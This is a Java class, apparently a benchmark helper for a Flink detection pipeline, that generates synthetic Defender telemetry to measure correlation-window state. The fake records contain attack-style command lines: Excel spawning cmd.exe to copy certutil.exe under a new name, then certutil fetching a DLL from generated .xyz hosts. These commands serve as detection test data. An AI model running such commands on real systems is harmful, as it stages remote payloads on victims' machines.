package dev.bazahunt.job.bench;

import dev.bazahunt.rules.RuleColumns;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bazahunt.job.pipeline.TelemetryCollector;
import dev.bazahunt.job.pipeline.TelemetryRecord;
import dev.bazahunt.telemetry.DefenderRecordParser;
import dev.bazahunt.telemetry.DefenderTimestamps;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import org.apache.flink.api.common.functions.OpenContext;
import org.apache.flink.api.common.functions.RichFlatMapFunction;
import org.apache.flink.util.Collector;

/**
 * Turns a number sequence into the state probe's telemetry: for each of {@code devices} devices an
 * Excel child that stages a certutil copy and, 30 s later, the renamed certutil's download, so every
 * device holds an open correlation window with both events in it. The rows carry the columns Defender
 * sends (about 1.2 KB each), with the values that differ per machine (device, user, folder, URL)
 * made per device. All Excel children come first and then all downloads, so event time only moves
 * forward and no row is late for CEP. Then it pauses twice, so the probe can weigh the state: once with
 * all windows open, and once after a row two hours later has moved event time past every window. A
 * pause does not block the task: the sequence goes on, and its numbers are dropped until the probe is
 * done, so the task can still take a savepoint. The latches are static because the probe runs the job
 * in its own JVM's MiniCluster, which it cancels at the end.
 */
final class OpenWindowTelemetry extends RichFlatMapFunction<Long, TelemetryRecord> {
    private static final long serialVersionUID = 1L;
    static final long START = Instant.parse("2021-07-20T08:00:00Z").getEpochSecond() * 1_000_000_000L;
    private static final long SECOND = 1_000_000_000L;
    /** Excel children are 10 µs apart, so a million devices fit well before the first download. */
    private static final long DEVICE_SPACING = 10_000L;
    private static final long DOWNLOAD_DELAY = 30 * SECOND;
    private static final ObjectMapper JSON = new ObjectMapper();

    static volatile CountDownLatch windowsOpen;
    static volatile CountDownLatch weighedOpen;
    static volatile CountDownLatch windowsClosed;

    private final long devices;
    private transient DefenderRecordParser parser;
    private transient TelemetryCollector collector;

    OpenWindowTelemetry(long devices) {
        this.devices = devices;
    }

    /** Whether the row that closes the windows went out. */
    private transient boolean closingSent;

    @Override
    public void open(OpenContext openContext) {
        parser = new DefenderRecordParser(RuleColumns.builtIn());
        collector = new TelemetryCollector();
    }

    @Override
    public void flatMap(Long index, Collector<TelemetryRecord> out) throws Exception {
        collector.from(out, letter -> {});
        if (index < devices) {
            parse(excelChild(index, START + index * DEVICE_SPACING));
        } else if (index < 2 * devices) {
            long device = index - devices;
            parse(download(device, START + device * DEVICE_SPACING + DOWNLOAD_DELAY));
        } else if (weighedOpen.getCount() > 0) {
            windowsOpen.countDown();
            idle();
        } else if (!closingSent) {
            closingSent = true;
            // Two hours later: event time passes every window, CEP prunes and the alert timers fire.
            parse(excelChild(devices, START + 2 * 3600 * SECOND));
        } else {
            windowsClosed.countDown();
            idle();
        }
    }

    /** A tick while the probe weighs: slow enough not to fill the heap with garbage, short enough for a savepoint. */
    private static void idle() throws InterruptedException {
        Thread.sleep(1);
    }

    private void parse(Map<String, Object> row) throws JsonProcessingException {
        parser.parse(JSON.writeValueAsBytes(row), collector);
    }

    /** cmd.exe, started by the user's Excel, creates a folder and copies certutil.exe into it. */
    private static Map<String, Object> excelChild(long device, long at) {
        String folder = payloadFolder(device);
        Map<String, Object> row = common("DeviceProcessEvents", device, at, "ProcessCreated");
        row.put("FileName", "cmd.exe");
        row.put("FolderPath", "C:\\Windows\\System32\\cmd.exe");
        row.put("SHA1", "4bed88894a1f3cb4bc12d03eb67a8b30a24fb0a1");
        row.put("MD5", "67cd75f85d7e40a7f83a34cab28d4125");
        row.put("ProcessId", 6640 + device % 1000 * 4);
        row.put("ProcessCreationTime", DefenderTimestamps.format(at - 8_000_000L));
        row.put("ProcessCommandLine", "cmd.exe /c mkdir " + folder + " && copy C:\\Windows\\System32\\certutil.exe "
                + folder + "\\" + folderName(device) + ".exe");
        row.put("ProcessVersionInfoOriginalFileName", "Cmd.Exe");
        row.put("AccountDomain", "contoso");
        row.put("AccountName", userName(device));
        row.put("LogonId", 999_123L);
        initiating(row, device, "EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\excel.exe",
                5120, at - 60 * SECOND, "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\"
                        + userName(device) + "\\Downloads\\cancel_sub_KMR" + (3410029 + device) + ".xlsb\"",
                "Excel.exe", "explorer.exe", 4120, at - 6 * 3600 * SECOND);
        return tail(row, 2 * device + 1);
    }

    /** The renamed certutil writes the payload it fetched over plain HTTP. */
    private static Map<String, Object> download(long device, long at) {
        String folder = payloadFolder(device);
        String renamed = folderName(device) + ".exe";
        Map<String, Object> row = common("DeviceFileEvents", device, at, "FileCreated");
        row.put("FileName", "tmp1834.dll");
        row.put("FolderPath", folder + "\\tmp1834.dll");
        row.put("SHA1", "8e674250e48053f52e1e1c7c5533f4df05ef1009");
        row.put("MD5", "3680446e549f5bc77b0dd15e6253f292");
        row.put("FileSize", 167_886L);
        row.put("RequestProtocol", "Local");
        initiating(row, device, renamed, folder + "\\" + renamed, 7212, at - SECOND,
                renamed + "  -urlcache -split -f http://" + Long.toString(device + 100_000, 36) + ".xyz/a.php "
                        + folder + "\\tmp1834.dll",
                "CertUtil.exe", "cmd.exe", 6640 + device % 1000 * 4, at - 30 * SECOND - 8_000_000L);
        return tail(row, 2 * device + 2);
    }

    private static Map<String, Object> common(String table, long device, long at, String action) {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("Type", table);
        row.put("Timestamp", DefenderTimestamps.format(at));
        row.put("DeviceId", String.format("%040x", device + 1));
        row.put("DeviceName", "wks-" + device + ".contoso.local");
        row.put("ActionType", action);
        return row;
    }

    private static void initiating(Map<String, Object> row, long device, String fileName, String path, long processId,
            long created, String commandLine, String originalFileName, String parentFileName, long parentId,
            long parentCreated) {
        row.put("InitiatingProcessAccountDomain", "contoso");
        row.put("InitiatingProcessAccountName", userName(device));
        row.put("InitiatingProcessAccountSid", "S-1-5-21-1004336348-1177238915-682003330-" + (1100 + device));
        row.put("InitiatingProcessIntegrityLevel", "Medium");
        row.put("InitiatingProcessTokenElevation", "TokenElevationTypeLimited");
        row.put("InitiatingProcessSHA1", "fa5c22110e97386f41712dc3bf5c2b8a30cb612d");
        row.put("InitiatingProcessFileName", fileName);
        row.put("InitiatingProcessFolderPath", path.toLowerCase(java.util.Locale.ROOT));
        row.put("InitiatingProcessId", processId);
        row.put("InitiatingProcessCreationTime", DefenderTimestamps.format(created));
        row.put("InitiatingProcessCommandLine", commandLine);
        row.put("InitiatingProcessVersionInfoOriginalFileName", originalFileName);
        row.put("InitiatingProcessParentFileName", parentFileName);
        row.put("InitiatingProcessParentId", parentId);
        row.put("InitiatingProcessParentCreationTime", DefenderTimestamps.format(parentCreated));
    }

    private static Map<String, Object> tail(Map<String, Object> row, long reportId) {
        row.put("ReportId", reportId);
        row.put("MachineGroup", "Finance workstations");
        row.put("AdditionalFields", "{}");
        return row;
    }

    private static String userName(long device) {
        return "user" + device;
    }

    private static String folderName(long device) {
        return "x" + Long.toString(device + 50_000, 36);
    }

    private static String payloadFolder(long device) {
        return "C:\\Users\\Public\\" + folderName(device);
    }
}
